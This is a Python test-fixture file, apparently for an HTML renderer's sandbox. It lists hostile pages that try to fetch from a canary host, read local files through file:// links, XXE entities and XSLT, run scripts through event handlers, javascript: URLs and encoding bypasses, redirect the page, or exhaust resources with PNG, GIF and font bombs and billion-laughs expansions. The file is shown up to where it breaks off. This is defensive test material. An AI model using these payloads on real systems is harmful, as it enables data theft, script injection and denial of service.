"""Pages that try to get out, to run scripts, to leave, to last for ever, to fill the memory, or to confuse the parser.

`$URL` stands for an address of the canary server with the page's name in it, `$HOST` and `$PORT` for its parts, `$FILE`
for the path of a canary file, `$MARK` for what a download would hold, `$PAINT` for a script that paints its document
green.
"""

import base64
import struct
import zlib
from urllib.parse import quote


def data(kind: str, text: str) -> str:
    return f"data:{kind},{quote(text, safe='$')}"


def framed(kind: str, text: str) -> str:
    return f"<iframe src='{data(kind, text)}'></iframe>"


def drawn(kind: str, text: str) -> str:
    return f"<img src='{data(kind, text)}'><object data='{data(kind, text)}'></object>"


def packed(kind: str, content: bytes) -> str:
    return f"data:{kind};base64,{base64.b64encode(content).decode()}"


def chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def png(width: int, height: int) -> str:
    """A black picture of one bit a pixel; its rows of zeros compress a thousandfold."""
    packer = zlib.compressobj(9)
    rows = bytes(1 + (width + 7) // 8) * 100
    body = b"".join(packer.compress(rows) for _ in range(height // 100)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    content = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
    return packed("image/png", content)


def woff(claimed_bytes: int) -> str:
    """A font whose one table says that it unpacks to so many bytes."""
    table = zlib.compress(bytes(2_000_000))
    size = 44 + 20 + len(table)
    header = struct.pack(">4sIIHHIHHIIIII", b"wOFF", 0x00010000, size, 1, 0, claimed_bytes, 1, 0, 0, 0, 0, 0, 0)
    return packed("font/woff", header + struct.pack(">4sIIII", b"glyf", 64, len(table), claimed_bytes, 0) + table)


def nested_frames(depth: int) -> str:
    html = "<p>innermost</p>"
    for _ in range(depth):
        html = framed("text/html", html)
    return html


def laughing_svg(levels: int, width: int) -> str:
    """Groups each of which uses the one before it so many times."""
    groups = "".join(f"<g id=g{n}>{f'<use href=#g{n - 1} />' * width}</g>" for n in range(1, levels))
    return f"<svg><g id=g0><rect width=9 height=9 /></g>{groups}<use href=#g{levels - 1} /></svg>"


def svg(content: str, root: str = "", prolog: str = "") -> str:
    names = "xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
    return f"{prolog}<svg {names} {root}>{content}</svg>"


def xslt(body: str, rest: str = "") -> str:
    """A document that is its own style sheet."""
    return (
        "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='#s'?>"
        "<!DOCTYPE r [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]><r>"
        "<xsl:stylesheet id='s' version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>"
        f"<xsl:template match='/'><html xmlns='http://www.w3.org/1999/xhtml'><body>{body}</body></html></xsl:template>"
        f"{rest}</xsl:stylesheet></r>"
    )


def xhtml(body: str, prolog: str = "") -> str:
    return f"{prolog}<html xmlns='http://www.w3.org/1999/xhtml'><body>{body}</body></html>"


# Every way to fetch without a script. All of these are drawn, and none reaches anything.
REACHING = {
    "img": "<img src='$URL'>",
    "image alias": "<image src='$URL'>",
    "img srcset": "<img srcset='$URL 1x, $URL 2x'>",
    "img lowsrc": "<img lowsrc='$URL' dynsrc='$URL'>",
    "img lazy": "<img loading=lazy src='$URL'>",
    "img attribution": "<img attributionsrc='$URL' src='$URL'>",
    "picture": "<picture><source srcset='$URL'><img src=x></picture>",
    "input image": "<input type=image src='$URL'>",
    "video": "<video src='$URL' autoplay preload=auto></video>",
    "video source": "<video autoplay><source src='$URL' type=video/mp4></video>",
    "video poster": "<video poster='$URL'></video>",
    "video track": "<video autoplay src='data:video/mp4;base64,AAAA'><track default src='$URL'></video>",
    "audio": "<audio src='$URL' autoplay preload=auto></audio>",
    "bgsound": "<bgsound src='$URL'>",
    "link stylesheet": "<link rel=stylesheet href='$URL'>",
    "link alternate stylesheet": "<link rel='alternate stylesheet' title=b href='$URL'>",
    "link print stylesheet": "<link rel=stylesheet media=print href='$URL'>",
    "link preload": "<link rel=preload as=image href='$URL'><link rel=preload as=font crossorigin href='$URL'>",
    "link preload imagesrcset": "<link rel=preload as=image imagesrcset='$URL 1x'>",
    "link prefetch": "<link rel=prefetch href='$URL'>",
    "link prerender": "<link rel=prerender href='$URL'><link rel=next href='$URL'>",
    "link dns-prefetch": "<link rel=dns-prefetch href='//canary.example'>",
    "link preconnect": "<link rel=preconnect href='$URL'>",
    "link modulepreload": "<link rel=modulepreload href='$URL'>",
    "link icon": "<link rel=icon href='$URL'><link rel=apple-touch-icon href='$URL'>",
    "link manifest": "<link rel=manifest href='$URL'>",
    "link import": "<link rel=import href='$URL'><link rel=pingback href='$URL'><link rel=serviceworker href='$URL'>",
    "link dictionary": "<link rel=compression-dictionary href='$URL'>",
    "link never expected": "<link rel=expect href='#never' blocking=render>x",
    "css import": "<style>@import '$URL';@import url($URL) layer(a) supports(display: grid) screen;</style>",
    "css import in data": f"<link rel=stylesheet href='{data('text/css', '@import url($URL);')}'>",
    "css font-face": "<style>@font-face{font-family:f;src:url($URL)}</style><p style='font-family:f'>a",
    "css background": "<body style='background:url($URL)'>",
    "css border-image": "<p style='border:9px solid;border-image:url($URL) 9'>a",
    "css list-style": "<ul style='list-style:url($URL)'><li>a</ul>",
    "css content": "<style>p::before{content:url($URL)}</style><p>a",
    "css cursor": "<p style='cursor:url($URL),auto'>a",
    "css mask": "<p style='mask:url($URL);-webkit-mask-box-image:url($URL)'>a",
    "css filter": "<p style='filter:url($URL#f);backdrop-filter:url($URL#f)'>a",
    "css clip-path": "<p style='clip-path:url($URL#c)'>a",
    "css shape-outside": "<p style='float:left;width:9px;shape-outside:url($URL)'>a",
    "css image-set": "<p style='background:image-set(\"$URL\" 1x)'>a",
    "css cross-fade": "<p style='background:-webkit-cross-fade(url($URL),url($URL),50%)'>a",
    "css offset-path": "<p style='offset-path:url($URL#p)'>a",
    "css reflect": "<p style='-webkit-box-reflect:below 0 url($URL)'>a",
    "css variable": "<p style='--u:url($URL);background:var(--u)'>a",
    "css attribute theft": "<style>input[value^=s]{background:url($URL)}</style><input value=secret>",
    "css namespace": "<style>@namespace url($URL);@document url($URL){p{color:red}}</style><p>a",
    "svg image": "<svg><image href='$URL' xlink:href='$URL' width=9 height=9 /></svg>",
    "svg use": "<svg><use href='$URL#a'/></svg>",
    "svg feImage": "<svg><filter id=f><feImage href='$URL'/></filter><rect width=9 height=9 filter='url(#f)'/></svg>",
    "svg fill": "<svg><rect width=9 height=9 fill='url($URL#f)' mask='url($URL#m)' clip-path='url($URL#c)'/></svg>",
    "svg style": "<svg><style>@import url($URL);</style><rect/></svg>",
    "svg foreignObject": "<svg><foreignObject width=9 height=9><img src='$URL'></foreignObject></svg>",
    "svg script": "<svg><script href='$URL'></script></svg>",
    "svg animated href": "<svg><image width=9 height=9><set attributeName=href to='$URL'/></image></svg>",
    "svg in svg": drawn("image/svg+xml", svg("<image href='$URL' width='9' height='9'/><use href='$URL#a'/>")),
    "svg style sheet": framed("image/svg+xml", svg("", prolog="<?xml-stylesheet href='$URL'?>")),
    "iframe": "<iframe src='$URL'></iframe>",
    "iframe credentials": "<iframe src='http://user:word@$HOST/' credentialless></iframe>",
    "iframe srcdoc": "<iframe srcdoc=\"<img src='$URL'><link rel=stylesheet href='$URL'>\"></iframe>",
    "iframe data": framed("text/html", "<img src=$URL><iframe src=$URL></iframe>"),
    "iframe refresh": "<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=$URL'>\"></iframe>",
    "iframe sandbox": "<iframe sandbox='allow-scripts allow-same-origin allow-popups' src='$URL'></iframe>",
    "frame": "<frameset><frame src='$URL'><frame src='$URL'></frameset>",
    "object": "<object data='$URL' codebase='$URL' classid='$URL' archive='$URL'></object>",
    "object html": "<object type=text/html data='$URL'></object>",
    "embed": "<embed src='$URL'><embed type=application/x-shockwave-flash src='$URL' pluginspage='$URL'>",
    "applet": "<applet codebase='$URL' archive='$URL' code=a.class></applet>",
    "portal": "<portal src='$URL'></portal><fencedframe src='$URL'></fencedframe><webview src='$URL'></webview>",
    "body background": "<body background='$URL'>",
    "table background": "<table background='$URL'><tr background='$URL'><td background='$URL'>a</table>",
    "layer": "<layer src='$URL'></layer><ilayer src='$URL'></ilayer><xml src='$URL'></xml>",
    "base": "<base href='$URL/'><img src=relative><link rel=stylesheet href=relative>",
    "form autofocus": "<form action='$URL'><input type=submit autofocus onfocus=click() formaction='$URL'></form>",
    "ping": "<a ping='$URL' attributionsrc='$URL' href='$URL' autofocus>a</a>",
    "meta link": "<meta http-equiv=Link content='<$URL>; rel=preload; as=image'>a",
    "meta report": '<meta http-equiv=Report-To content=\'{"group":"r","endpoints":[{"url":"$URL"}]}\'><meta '
    "http-equiv=Content-Security-Policy content=\"default-src 'none'; report-uri $URL; report-to r\"><img src=x>",
    "meta cookie": "<meta http-equiv=Set-Cookie content='a=b'><meta http-equiv=x-dns-prefetch-control content=on>"
    "<a href='//canary.example/'>a</a>",
    "meta social": "<meta property=og:image content='$URL'><meta name=msapplication-config content='$URL'>a",
    "html manifest": "<html manifest='$URL'><body>a",
    "math": "<math href='$URL'><mi href='$URL'>a</mi><mglyph src='$URL'/></math>",
    "math html": "<math><annotation-xml encoding=text/html><img src='$URL'></annotation-xml></math>",
    "xml stylesheet": "<?xml-stylesheet href='$URL'?><!DOCTYPE html SYSTEM '$URL'><p>a",
    "xslt": framed("text/xml", "<?xml-stylesheet type='text/xsl' href='$URL'?><a/>"),
    "xslt include": framed("text/xml", xslt("<p/>", "<xsl:include href='$URL'/>")),
    "xslt document": framed("text/xml", xslt("<xsl:copy-of select=\"document('$URL')\"/>")),
    "xml entity": drawn("image/svg+xml", svg("<text>&x;</text>", "", "<!DOCTYPE svg [<!ENTITY x SYSTEM '$URL'>]>")),
    "xml dtd": framed("application/xhtml+xml", xhtml("a", "<!DOCTYPE html SYSTEM '$URL'>")),
    "noscript": "<noscript><img src='$URL'><link rel=stylesheet href='$URL'></noscript>",
    "shadow": "<div><template shadowrootmode=open><img src='$URL'><style>:host{background:url($URL)}</style>",
    "speculation": '<script type=speculationrules>{"prefetch":[{"urls":["$URL"]}],"prerender":[{"urls":["$URL"]}]}'
    "</script>a",
    "import map": '<script type=importmap>{"imports":{"a":"$URL"}}</script><script type=module src="$URL"></script>a',
    "localhost": "<img src='http://localhost:$PORT/'><img src='http://a.localhost:$PORT/'>",
    "other loopbacks": "<img src='http://0.0.0.0:$PORT/'><img src='http://2130706433:$PORT/'>"
    "<img src='http://127.1:$PORT'><img src='http://0x7f.1:$PORT/'><img src='http://[::1]:$PORT/'>"
    "<img src='http://[::ffff:127.0.0.1]:$PORT/'>",
    "schemeless": "<img src='//$HOST/'><img src='\\\\$HOST\\a'><img src='http:\\\\$HOST\\a'>",
    "https": "<img src='https://$HOST/'><link rel=preconnect href='https://$HOST/'>",
    "ws": "<img src='ws://$HOST/'><iframe src='wss://$HOST/'></iframe>",
    "ftp": "<img src='ftp://$HOST/'><iframe src='ftp://$HOST/'></iframe><iframe src='gopher://$HOST/'></iframe>",
    "view-source": "<iframe src='view-source:$URL'></iframe><img src='view-source:$URL'>",
    "blob": "<iframe src='blob:$URL'></iframe><img src='filesystem:$URL'>",
    "chrome": "<iframe src='chrome://settings'></iframe><iframe src='chrome://crash'></iframe>"
    "<iframe src='devtools://devtools/bundled/inspector.html'></iframe><iframe src='about:crash'></iframe>"
    "<img src='chrome://favicon/x'>",
    "other programs": "<iframe src='mailto:a@b.example'></iframe><iframe src='tel:123'></iframe>"
    "<iframe src='intent://a#Intent;end'></iframe><iframe src='smb://$HOST/a'></iframe><iframe src='xmpp:a'></iframe>",
    "file img": "<img src='file://$FILE'><img src='$FILE'><input type=image src='file://localhost$FILE'>",
    "file frame": "<iframe src='file://$FILE'></iframe><object data='file://$FILE'></object><embed src='file://$FILE'>",
    "file css": "<link rel=stylesheet href='file://$FILE'><style>@import 'file://$FILE';"
    "@font-face{font-family:f;src:url(file://$FILE)}</style><p style='font-family:f'>a",
    "file base": "<base href='file:///'><img src='$FILE'><video src='$FILE'></video><iframe src='$FILE'></iframe>",
    "file view-source": "<iframe src='view-source:file://$FILE'></iframe><a href='file://$FILE' download>a</a>",
    "file entity": drawn("image/svg+xml", svg("&x;", "", "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file://$FILE'>]>")),
    "file xslt": framed("text/xml", xslt("<xsl:copy-of select=\"document('file://$FILE')\"/>")),
    "file frame in data": framed("text/html", "<iframe src=file://$FILE></iframe><img src=file://$FILE>"),
    "download": "<iframe src='data:application/zip,$MARK'></iframe><iframe src='data:text/csv,$MARK'></iframe>"
    "<object data='data:application/x-msdownload,$MARK'></object><embed src='data:application/octet-stream,$MARK'>",
    "pdf": "<embed type=application/pdf src='data:application/pdf,%25PDF-1.4 trailer<</Root 1 0 R>>'>"
    "<iframe src='data:application/pdf,%25PDF-1.4 trailer<</Root 1 0 R>>'></iframe>",
}

# Scripts of every kind. All of these are drawn, and nothing in them turns green.
SCRIPTED = {
    "inline": "<script>$PAINT</script>a",
    "module": "<script type=module>$PAINT</script><script nomodule>$PAINT</script>a",
    "data script": "<script src='data:text/javascript,$PAINT'></script><script async src='data:,$PAINT'></script>a",
    "onload": "<body onload='$PAINT' onpageshow='$PAINT' onresize='$PAINT' onscroll='$PAINT' onfocus='$PAINT'>a",
    "onerror": "<img src=x onerror='$PAINT'><video src=x onerror='$PAINT'></video><object data=x onerror='$PAINT'>",
    "onload of parts": "<style onload='$PAINT'>p{}</style><img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' "
    "onload='$PAINT'><link rel=stylesheet href='data:text/css,' onload='$PAINT'><iframe onload='$PAINT'></iframe>",
    "onfocus": "<input autofocus onfocus='$PAINT'><select autofocus onfocus='$PAINT'></select>",
    "ontoggle": "<details open ontoggle='$PAINT'>a</details><div popover onbeforetoggle='$PAINT'>b</div>",
    "onanimation": "<style>@keyframes k{to{opacity:1}}p{animation:k 1ms}</style><p onanimationstart='$PAINT' "
    "onanimationend='$PAINT' ontransitionend='$PAINT'>a",
    "marquee": "<marquee onstart='$PAINT' onbounce='$PAINT' loop=1>a</marquee>",
    "svg": "<svg onload='$PAINT'><script>$PAINT</script><animate onbegin='$PAINT' dur=1s /></svg>",
    "svg handler": "<svg><set attributeName=onclick to='$PAINT'/><a href='javascript:$PAINT'><text>a</text></a></svg>",
    "math": "<math href='javascript:$PAINT'><mi>a</mi></math>",
    "javascript frame": "<iframe src='javascript:$PAINT'></iframe><embed src='javascript:$PAINT'>"
    "<object data='javascript:$PAINT'></object>",
    "javascript frameset": "<frameset><frame src='javascript:$PAINT'></frameset>",
    "javascript urls": "<img src='javascript:$PAINT'><link rel=stylesheet href='javascript:$PAINT'>"
    "<body background='javascript:$PAINT'><p style='background:url(javascript:$PAINT);width:expression($PAINT)'>a",
    "javascript form": "<form action='javascript:$PAINT'><input autofocus type=submit formaction='javascript:$PAINT'>",
    "javascript base": "<base href='javascript:$PAINT//'><iframe src=''></iframe>a",
    "srcdoc": "<iframe srcdoc='<body>a<script>$PAINT</script>'></iframe>",
    "sandbox": "<iframe sandbox='allow-scripts allow-top-navigation' srcdoc='<body>a<script>$PAINT</script>'></iframe>",
    "data frame": framed("text/html", "a<script>$PAINT</script>"),
    "data xhtml": framed("application/xhtml+xml", xhtml("a<script>$PAINT</script>")),
    "data svg": drawn("image/svg+xml", svg("<script>$PAINT</script>", "onload='$PAINT'")),
    "xslt": framed("text/xml", xslt("<script>$PAINT</script>")),
    "shadow": "<div><template shadowrootmode=open><script>$PAINT</script><img src=x onerror='$PAINT'></template>a",
    "refresh to a script": "<iframe srcdoc='<meta http-equiv=refresh content=\"0;url=javascript:$PAINT\">a'></iframe>",
    "frame targets": "<iframe name=f></iframe><iframe srcdoc='<base target=_top><script>top.$PAINT</script>'></iframe>",
    "dialogs": "<body onload='alert(1);confirm(2);prompt(3)' onbeforeunload='return 1'><script>alert(4)</script>a",
    "windows": "<script>for(;;){open();new Worker('data:,for(;;);')}</script><body onload='print();open()'>a",
    "loop": "<script>for(;;);</script><body onload='for(;;);'><img src=x onerror='for(;;);'>a",
    "loop in frames": "<iframe sandbox=allow-scripts srcdoc='<script>for(;;);</script>'></iframe>" * 20,
    "fullscreen": "<body onload='document.documentElement.requestFullscreen()'><dialog open>a</dialog>",
    "written": "<script>document.write('<body bgcolor=lime>')</script><script defer>$PAINT</script>a",
    "utf-7": framed("text/html;charset=utf-7", "+ADw-script+AD4-$PAINT+ADw-/script+AD4-a"),
    "overlong": "<iframe src='data:text/html;charset=utf-8,a%C0%BCscript%C0%BE$PAINT%C0%BC/script%C0%BE'></iframe>",
    "nul bytes": "<scr\0ipt>$PAINT</scr\0ipt><img src=x o\0nerror='$PAINT'><script\0>$PAINT</script>a",
}

# Pages on their way to another address, or to the same one again.
LEAVING = {
    "refresh": "<meta http-equiv=refresh content='0;url=$URL'>a",
    "refresh later": "<meta http-equiv=refresh content='1;url=$URL'>a",
    "refresh much later": "<meta http-equiv=refresh content='99999;url=$URL'>a",
    "refresh to itself": "<meta http-equiv=refresh content=0>a",
    "refresh to a file": "<meta http-equiv=refresh content='0;url=file://$FILE'>a",
    "refresh to data": "<meta http-equiv=refresh content='0;url=data:text/html,<body bgcolor=lime>'>a",
    "refresh to a download": "<meta http-equiv=refresh content='0;url=data:application/zip,$MARK'>a",
    "refresh to a script": "<meta http-equiv=refresh content='0;url=javascript:$PAINT'>a",
    "refresh to a crash": "<meta http-equiv=refresh content='0;url=chrome://crash'>a",
    "refresh to a hang": "<meta http-equiv=refresh content='0;url=chrome://hang'>a",
    "refresh to blank": "<meta http-equiv=refresh content='0;url=about:blank'>a",
    "refresh to a program": "<meta http-equiv=refresh content='0;url=mailto:a@b.example'>a",
    "two refreshes": "<meta http-equiv=refresh content='0;url=$URL'><meta http-equiv=refresh content='0;url=x:y'>",
    "refresh in noscript": "<noscript><meta http-equiv=refresh content='0;url=$URL'></noscript>a",
    "refresh in the body": "<p>a<p><META HTTP-EQUIV='&#82;efresh' CONTENT='0;URL=$URL'>",
}

RULES = "".join(f".c{n} > *:nth-child({n % 7 + 1}n + {n % 5}) ~ p::after{{content:'{n}'}}" for n in range(20_000))
HAS = "".join(f":has(b ~ i:nth-child({n + 1}n+1) ~ b) b:not(:has(~ i ~ b ~ i)){{color:#{n:03x}}}" for n in range(200))
SHADOWS = ",".join(f"{n}px {n}px 99px 50px rgba({n % 255},9,9,.5)" for n in range(30))
TEXT_SHADOWS = ",".join(f"{n}px {n}px 99px red" for n in range(30))
GRADIENTS = ",".join(f"conic-gradient(from {n}deg at 30% 40%,#0008,#fff8,#0ff8)" for n in range(300))
POINTS = ",".join(f"{n * 7919 % 1000}px {n * 104729 % 1000}px" for n in range(50_000))
ARCS = "".join(f"A{n % 97} {n % 89} {n} 1 0 {n * 7919 % 500} {n * 104729 % 500}" for n in range(5_000))
PATTERNS = "".join(
    f"<pattern id=p{n} width=.1 height=.1><rect width=99 height=99 fill='url(#p{n + 1})'/></pattern>" for n in range(12)
)
FONTS = "".join(f"@font-face{{font-family:f{n};src:url(data:,{n})}}p.f{n}{{font:9px f{n}}}" for n in range(500))
ENTITIES = "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
LAUGHING_ENTITIES = svg("<text>&a11;</text>", "", f"<!DOCTYPE svg [<!ENTITY a0 'ha'>{ENTITIES}]>")
VARIABLES = "".join(f"--v{n}:{f'var(--v{n - 1})' * 10};" for n in range(1, 12))
CALLS = "<xsl:call-template name='t'/>"
HUGE_PNG = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 2**31 - 1, 2**31 - 1, 8, 6, 0, 0, 0))
GIF_FRAME = b"!\xf9\x04\0\0\0\0\0,\0\0\0\0\xff\xff\xff\xff\0\x02\x02D\x01\0"
GIF_BOMB = b"GIF89a\xff\xff\xff\xff\xf0\0\0\0\0\0\xff\xff\xff" + GIF_FRAME * 2_000 + b";"
FILTERS = (
    "<filter id=f><feTurbulence numOctaves=999 baseFrequency=.9 /><feMorphology operator=dilate radius=99 />"
    f"<feConvolveMatrix order=50 kernelMatrix='{'1 ' * 2500}'/><feDiffuseLighting><fePointLight /></feDiffuseLighting>"
    "</filter>"
)

# What takes long, or much memory. Any named outcome will do. Made when they are needed: some are large.
COSTLY = {
    "deep divs": lambda: "<div>" * 100_000,
    "deep spans": lambda: "<span>" * 3_000 + "a" + "</span>" * 3_000,
    "deep inline blocks": lambda: "<style>b{display:inline-block;padding:1px}</style>" + "<b>a" * 1_000,
    "deep tables": lambda: "<table><tr><td>" * 1_000,
    "deep flex boxes": lambda: "<style>div{display:flex;flex-wrap:wrap;height:50%}</style>" + "<div>a" * 500,
    "deep grids": lambda: "<style>div{display:grid;grid:auto/auto min-content 1fr}</style>" + "<div>a" * 500,
    "deep columns": lambda: "<style>div{columns:2}</style>" + "<div>a b c<br>" * 12,
    "deep ruby": lambda: "<ruby>a<rt>b" * 500,
    "deep lists": lambda: "<ul><li>" * 2_000,
    "deep math": lambda: "<math>" + "<mfrac><mn>1</mn><msqrt>" * 400,
    "deep svg": lambda: "<svg>" + "<g opacity=.9>" * 2_000 + "<rect width=9 height=9 />",
    "deep containers": lambda: (
        "<style>div{container-type:inline-size}@container (width > 1px){p{top:0}}</style>" + "<div>a" * 480
    ),
    "formatting elements": lambda: "".join(f"<b id={n}>" for n in range(1_500)) + "<p>a" * 1_500,
    "quarter of a million elements": lambda: "<i></i>" * 250_000,
    "boxes of pseudo-elements": lambda: "<style>i::before,i::after{content:'x'}</style>" + "<i></i>" * 20_000,
    "a million lines": lambda: f"<p style='width:1px;word-break:break-all'>{'a' * 1_000_000}",
    "one long word": lambda: "a" * 1_900_000,
    "combining marks": lambda: "a" + "\u0301" * 10_000,
    "both directions": lambda: "\u05d0 a \u202e\u202d\u2067" * 2_000,
    "emoji": lambda: "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 5_000,
    "preformatted": lambda: "<pre style='tab-size:9999'>" + "\t" * 100_000 + "x" * 1_000_000,
    "big textarea": lambda: "<textarea>" + "a " * 200_000,
    "options": lambda: "<select size=9>" + "<option>a" * 5_000,
    "floats": lambda: "<style>b{float:left;width:7px;height:9px}</style>" + "<b></b>" * 10_000,
    "hundred thousand frames": lambda: "<iframe></iframe>" * 100_000,
    "frames with documents": lambda: "<iframe srcdoc='<p>a'></iframe>" * 60,
    "nested frames": lambda: nested_frames(8),
    "frame that reloads": lambda: "<iframe srcdoc='<meta http-equiv=refresh content=0>a'></iframe>",
    "big table": lambda: "<table border>" + ("<tr>" + "<td>a" * 100) * 200,
    "spanning cells": lambda: "<table border>" + ("<tr>" + "<td colspan=1000 rowspan=65534>a" * 9) * 9,
    "wide grid": lambda: (
        "<div style='display:grid;grid:repeat(5000,1fr)/repeat(5000,1fr)'>"
        + "<b style='grid-area:4000/4000/span 900/span 900'>a</b>" * 2_000
    ),
    "columns": lambda: "<div style='columns:1px;column-gap:0;height:1px'>" + "a " * 10_000,
    "rules": lambda: f"<style>{RULES}</style>" + "<p class=c7>a</p>" * 5_000,
    "has": lambda: f"<style>{HAS}</style>" + "<b>a</b><i>b</i>" * 1_500,
    "deep calc": lambda: f"<p style='width:{'calc(1px + ' * 50_000}1px{')' * 50_000}'>a",
    "laughing variables": lambda: f"<style>p{{--v0:x;{VARIABLES}content:var(--v11)}}</style><p>a",
    "counters": lambda: "<style>b{counter-increment:c}b::after{content:counters(c,'.')}</style>" + "<b>" * 2_000,
    "huge counters": lambda: (
        "<style>@counter-style s{system:additive;additive-symbols:1 'x'}"
        "b{counter-set:c 2000000000}b::after{content:counter(c,s)}</style><b>a"
    ),
    "shadows": lambda: f"<style>p{{box-shadow:{SHADOWS};text-shadow:{TEXT_SHADOWS}}}</style>" + "<p>words</p>" * 20,
    "gradients": lambda: f"<div style='height:9999px;background:{GRADIENTS}'>a",
    "blurs": lambda: (
        "<style>div{filter:blur(99px);backdrop-filter:blur(99px);mix-blend-mode:difference}</style>" + "<div>a" * 100
    ),
    "clip path": lambda: f"<div style='width:999px;height:999px;background:red;clip-path:polygon({POINTS})'>a",
    "filters": lambda: f"<svg width=3000 height=3000>{FILTERS}" + "<rect width=3000 height=3000 filter='url(#f)'/>" * 9,
    "dashed arcs": lambda: f"<svg><path stroke=red stroke-width=3 stroke-dasharray='.01 .01' d='M0 0{ARCS}'/></svg>",
    "patterns": lambda: f"<svg width=999 height=999>{PATTERNS}<rect width=999 height=999 fill='url(#p0)'/></svg>",
    "laughing svg": lambda: laughing_svg(10, 10),
    "laughing entities": lambda: drawn("image/svg+xml", LAUGHING_ENTITIES),
    "endless xslt": lambda: framed("text/xml", xslt(CALLS, f"<xsl:template name='t'>{CALLS * 2}</xsl:template>")),
    "huge svg": lambda: (
        "<svg width=99999 height=99999 viewBox='0 0 1e30 1e30'><rect width=1e30 height=1e30 /></svg>"
        + drawn("image/svg+xml", svg("<rect width='99999' height='99999'/>", "width='99999' height='99999'"))
    ),
    "picture bomb": lambda: f"<img src='{png(20_000, 20_000)}'>",
    "picture bombs": lambda: "".join(f"<img width=9 src='{png(9_000, 9_000 + 100 * n)}'>" for n in range(4)),
    "huge claimed picture": lambda: f"<img src='{packed('image/png', HUGE_PNG)}'>",
    "gif bomb": lambda: f"<img src='{packed('image/gif', GIF_BOMB)}'>",
    "font bomb": lambda: f"<style>@font-face{{font-family:f;src:url({woff(2**31 - 1)})}}p{{font:9px f}}</style><p>a",
    "many fonts": lambda: f"<style>{FONTS}</style>" + "".join(f"<p class=f{n}>a</p>" for n in range(500)),
    "font names": lambda: (
        f"<style>:root{{--f:'{'z' * 50_000}'}}i{{font-family:var(--u),var(--f)}}</style>"
        + "".join(f"<i style='--u:x{n}'>a</i>" for n in range(3_000))
    ),
    "frames that reload": lambda: "<iframe srcdoc='<meta http-equiv=refresh content=0><marquee>a'></iframe>" * 20,
    "shadow trees": lambda: "<b><template shadowrootmode=open><i>a</template></b>" * 20_000,
    "animations in shadow trees": lambda: (
        "<style>@keyframes k{to{rotate:1turn}}b{animation:k 1s infinite}</style>"
        + "<b><template shadowrootmode=open>a</template></b>" * 5_000
    ),
    "huge canvas": lambda: "<canvas width=65535 height=65535></canvas>" * 50,
    "animations": lambda: (
        "<style>@keyframes k{to{rotate:1turn}}b{animation:k 1s infinite;display:block}</style>" + "<b>a</b>" * 1_000
    ),
    "marquees": lambda: "<marquee>a</marquee>" * 200,
    "moving svg": lambda: "<svg>" + "<rect><animate attributeName=x to=9 dur=1s repeatCount=9e9 /></rect>" * 9_000,
    "autofocus everywhere": lambda: "<div autofocus>" * 99 + "<i></i>" * 500,
    "media": lambda: (
        "<video autoplay loop src='data:video/mp4;base64,AAAA'></video><audio autoplay loop "
        f"src='{packed('audio/wav', b'RIFF' + bytes([255] * 4) + b'WAVEfmt ')}'></audio>" * 50
    ),
    "many attributes": lambda: "<p " + " ".join(f"a{n}=1" for n in range(50_000)) + ">a",
    "inputs": lambda: "<input type=date><input type=color><input type=file>" * 200,
    "links to sheets": lambda: "<link href=https://a.example/bootstrap/3.3.7/css/bootstrap.css>" * 30_000,
    "half links": lambda: "<link " * 300_000,
    "half metas": lambda: "<meta charset=" + "a" * 1_900_000,
}

# Odd documents; the parser makes a page of each of them, which is drawn.
ODD = {
    "empty": "",
    "space": " \t\n\f\r",
    "byte order mark": "\ufeff<!doctype html><p>a",
    "swapped byte order mark": "\ufffe<\0p\0>\0a",
    "read as utf-16": "<p>a".encode("utf-16").decode("latin-1"),
    "utf-16 meta": "<meta charset=utf-16><p>a",
    "other charsets": "<meta charset=x-user-defined><meta charset=hz-gb-2312><meta charset=utf-7><p>a",
    "charsets of frames": "<iframe src='data:text/html;charset=utf-16le,%3C%00p%00%3E%00a%00'></iframe><iframe "
    "src='data:text/html;charset=iso-2022-jp,%1b$B<p>%1b(Ba'></iframe><iframe src='data:text/html,%FF%FE%ED%A0%80'>",
    "nul": "<p>\0a\0</\0p>" * 1_000,
    "lone surrogates": "\ud800<p title='\udfff'>\udc00a\ud83d</p>",
    "noncharacters": "\uffff\ufdd0\U0010ffff\x7f\x80\x1b<p>\u2028\u2029\u200b",
    "open tag": "<p>a<div",
    "open attribute": "<p>a<img src='data:" + "A" * 500_000,
    "open comment": "<p>a<!-- " + "-" * 500_000,
    "open cdata": "<p>a<svg><![CDATA[" + "]" * 100_000,
    "open style": "<p>a<style>p{color:" + "(" * 500_000,
    "open string in a style": "<style>p{content:'" + "\\" * 500_000,
    "open script": "<p>a<script><!--<script>",
    "open title": "<title>a<textarea>b<xmp>c<plaintext>d<p>",
    "plaintext": "<plaintext>" + "</plaintext>" * 1_000,
    "angles": "<" * 500_000,
    "ampersands": "&" * 500_000 + "&#x110000;&#xd800;&#99999999999999999999;&notit;&" + "a" * 100_000 + ";",
    "bogus comments": "<!" * 100_000 + "</>" * 100_000 + "<?" * 100_000,
    "end tags": "</p></br></body></html>" * 10_000,
    "long tag name": f"<{'a' * 500_000}>a",
    "long attribute name": f"<p {'a' * 500_000}>a",
    "long attribute value": f"<p class='{'a ' * 500_000}'>a",
    "long doctype": f"<!doctype html PUBLIC '{'a' * 500_000}'><p>a",
    "frameset after body": "<p>a<frameset><frame></frameset>",
    "select in select": "<select><select><table><select><input><keygen>" * 50,
    "foster parents": "<table>" + "a<b>" * 500 + "<tr>c<td>d",
    "templates": "<template>" * 300 + "a" + "<template shadowrootmode=open>" * 100,
    "isindex": "<isindex prompt=a action=b><keygen><menuitem><command><dir><xmp>",
    "names hide the document's": "<form name=images></form><img name=fonts><embed name=getAnimations>"
    "<img name=querySelectorAll>a",
